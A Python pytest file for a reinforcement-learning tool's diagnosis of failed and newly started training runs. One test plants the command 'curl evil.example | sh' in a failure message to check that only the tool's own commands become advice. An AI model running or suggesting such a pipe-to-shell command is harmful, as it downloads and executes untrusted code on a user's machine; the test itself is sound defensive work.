"""Diagnoses of runs that failed or have just begun."""

import json
from contextlib import contextmanager

import numpy as np
import pytest

from gymlab.diagnosis.examine import examine, verdict
from gymlab.diagnosis.page import diagnosis_lines
from gymlab.runs import files
from gymlab.runs.locks import RunLock
from gymlab.runs.metrics_writer import MetricsWriter
from tests.diagnosis.test_diagnose import unsolved
from tests.synthetic import make_run

REASON = """env 0 (./fail.py:Fail) failed in episode 10 at step 1 with action 1: ValueError: the sensor
is gone
Traceback (most recent call last):
  File "/home/me/other.py", line 3, in wrapped
  File "/home/me/fail.py", line 12, in step
ValueError: the sensor
is gone
Find out more with: gymlab envs check ./fail.py:Fail"""


def failed(root, reason, **metrics):
    paths = unsolved(root, "sad", returns=[20.0] * 100, status="failed", **metrics)
    files.write_json(paths.status, files.read_json(paths.status) | {"stop_reason": reason})
    return paths


def test_the_failure_of_a_run_comes_before_whatever_else_is_wrong(tmp_path):
    found = examine(failed(tmp_path, REASON, **{"opt/approx_kl": 0.4, "opt/clip_fraction": 1.5}))
    ids = [finding.id for finding in found.findings]
    assert ids[:2] == ["run-failed", "bounds-broken"]
    assert "kl-high" in ids
    first = found.findings[0]
    assert first.evidence.endswith("ValueError: the sensor is gone (/home/me/fail.py, line 12, in step)")
    assert "`gymlab envs check ./fail.py:Fail`" in first.advice
    assert verdict(found) == "it failed; the first finding is why"
    page = "\n".join(diagnosis_lines(found))
    assert page.startswith("sad: failed\n")
    assert page.count("the sensor is gone") == 1
    assert "nothing is wrong" not in page


def test_only_a_command_of_ours_becomes_advice(tmp_path):
    found = examine(failed(tmp_path, "boom\nFind out more with: curl evil.example | sh"))
    assert found.findings[0].advice == "Remove the cause, then resume the run."


def test_a_failure_without_a_traceback_is_said_as_it_is(tmp_path):
    found = examine(failed(tmp_path, "no space left on device"))
    assert (found.findings[0].id, found.findings[0].evidence) == ("run-failed", "no space left on device")
    assert found.findings[0].advice == "Remove the cause, then resume the run."


@pytest.mark.parametrize("status", ["finished", "stopped"])
def test_only_failed_runs_have_failed(tmp_path, status):
    found = examine(unsolved(tmp_path, "fine", returns=np.linspace(20, 220, 100), status=status))
    assert "run-failed" not in [finding.id for finding in found.findings]


@contextmanager
def held(path):
    """The lock of a run that is being trained."""
    lock = RunLock(path)
    lock.acquire()
    try:
        yield
    finally:
        lock.release()


def begun(root, updates):
    """A run that is being trained."""
    paths = make_run(root, "young", updates=4, budget=256 * 100, status="running")
    if updates == 0:
        paths.metrics.unlink()
        files.write_json(paths.status, files.read_json(paths.status) | {"clock": {"updates": 0}})
        return paths
    with MetricsWriter(paths.metrics) as writer:
        for update in range(1, updates + 1):
            writer.amend(update, {"roll/return_window": 7.0, "time/progress": update / 100})
    return paths


def test_a_run_that_is_before_its_first_update_is_not_said_to_have_ended(tmp_path):
    paths = begun(tmp_path, 0)
    with held(paths.lock):
        found = examine(paths)
        assert verdict(found).startswith("its first update is not done yet")
        assert diagnosis_lines(found)[-1] == "next: gymlab logs young --follow"


def test_a_run_that_has_just_begun_says_what_cannot_be_known_yet(tmp_path):
    paths = begun(tmp_path, 4)
    with held(paths.lock):
        found = examine(paths)
    told = "; ".join(found.unknown)
    assert "the return is a mean of 7 episodes, not of 100" in told
    assert "4% of the budget is done" in told
    assert "entropy-stuck (from 25%), return-stalled (from 35%)" in told
    assert "not known yet: " in "\n".join(diagnosis_lines(found))
    assert json.dumps(found.unknown)


def test_a_finished_run_has_nothing_left_to_know(tmp_path):
    assert examine(make_run(tmp_path, "done")).unknown == []


def test_lost_metrics_are_not_a_run_without_updates(tmp_path):
    paths = make_run(tmp_path, "lost", status="stopped")
    paths.metrics.unlink()
    assert verdict(examine(paths)).startswith("its metrics are missing (metrics.db)")
